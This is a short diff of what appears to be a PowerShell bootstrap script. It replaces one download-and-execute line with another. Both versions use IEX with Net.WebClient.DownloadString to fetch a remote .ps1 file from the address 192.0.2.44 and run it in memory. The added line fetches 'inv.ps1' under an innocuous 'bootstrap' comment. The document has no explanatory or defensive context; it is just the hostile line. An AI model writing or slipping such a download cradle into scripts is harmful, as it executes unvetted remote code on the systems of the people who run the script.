@@ -1,2 +1,2 @@
-# init 3675 v4
-IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/a.ps1')
+# bootstrap 5492 v4
+IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/inv.ps1')
